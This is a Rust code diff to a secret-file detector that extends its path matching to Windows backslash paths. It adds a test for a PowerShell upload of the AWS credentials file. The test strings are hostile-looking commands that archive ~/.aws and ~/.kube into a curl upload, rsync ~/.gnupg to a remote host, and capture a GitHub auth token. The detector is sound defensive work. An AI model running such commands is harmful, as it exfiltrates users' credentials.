@@ -807,12 +807,14 @@ fn secret_dir(t: &[u8], s: usize, e: usize) -> Option<usize> {
     if s > 0
         && !matches!(
             t[s - 1],
-            b'~' | b'/' | b' ' | b'"' | b'\'' | b'=' | b'`' | b'\n'
+            b'~' | b'/' | b'\\' | b' ' | b'"' | b'\'' | b'=' | b'`' | b'\n'
         )
     {
         return None;
     }
-    if at(t, e) != b'/' {
+    // Windows writes the same path with backslashes:
+    // `$env:USERPROFILE\.aws\credentials`.
+    if !matches!(at(t, e), b'/' | b'\\') {
         return (!is_word(at(t, e)) && !matches!(at(t, e), b'.' | b'-')).then_some(e);
     }
     let end = token_end(t, e + 1, 80);
@@ -1832,6 +1834,7 @@ mod tests {
         assert!(features("tar czf - ~/.aws ~/.kube | curl -t - x").contains(&F::SecretFile));
         assert!(features("rsync -a ~/.gnupg/ b@h:/k/").contains(&F::SecretFile));
         assert!(!features("export aws_region=eu-west-1 # see docs.aws").contains(&F::SecretFile));
+        assert!(features("-InFile $env:USERPROFILE\\.aws\\credentials").contains(&F::SecretFile));
         assert!(features("cat ~/.config/tool/key").contains(&F::SecretFile));
         assert!(!features("cat ~/.config/tool/settings.toml").contains(&F::SecretFile));
         assert!(features("x=$(gh auth token)").contains(&F::CmdSubst));
